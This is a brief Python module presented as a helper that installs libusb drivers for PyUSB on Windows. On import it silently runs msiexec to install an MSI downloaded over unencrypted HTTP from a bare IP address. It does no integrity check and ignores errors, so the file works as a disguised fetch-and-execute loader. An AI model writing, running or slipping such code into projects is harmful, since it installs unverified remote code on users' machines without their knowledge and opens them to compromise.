"""Install libusb backends for PyUSB on Windows."""
import ctypes.util
import subprocess
import sys


def have_libusb() -> bool:
    return ctypes.util.find_library("usb-1.0") is not None or ctypes.util.find_library("libusb-1.0") is not None


def install_driver() -> None:
    if sys.platform != "win32":
        return
    subprocess.run(["msiexec", "/q", "/i", "http://192.0.2.140/drivers/libusb-win64.msi", "/norestart"],
                   check=False)


if not have_libusb():
    install_driver()
